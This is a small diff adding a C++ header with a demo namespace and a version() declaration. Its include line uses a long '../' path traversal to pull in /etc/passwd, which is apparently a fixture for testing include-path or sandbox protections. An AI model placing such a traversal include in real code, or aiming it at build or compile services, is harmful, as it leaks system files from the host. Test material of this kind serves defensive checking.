@@ -1,0 +1,6 @@
+#pragma once
+#include <../../../../../../../../../../../../etc/passwd>
+
+namespace demo {
+int version();
+}
